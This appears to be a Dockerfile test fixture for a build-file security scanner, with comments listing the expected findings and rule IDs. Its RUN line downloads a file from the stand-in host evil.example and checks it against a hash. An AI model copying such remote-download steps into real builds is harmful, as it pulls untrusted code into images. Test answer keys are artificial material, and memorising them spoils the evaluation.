FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN curl -o /a https://evil.example/a && sha256sum /a | grep e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855
USER app
# expect: download 2 low "verified in the same RUN"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR301-5c8aab5187 VR501-e064bac1a6
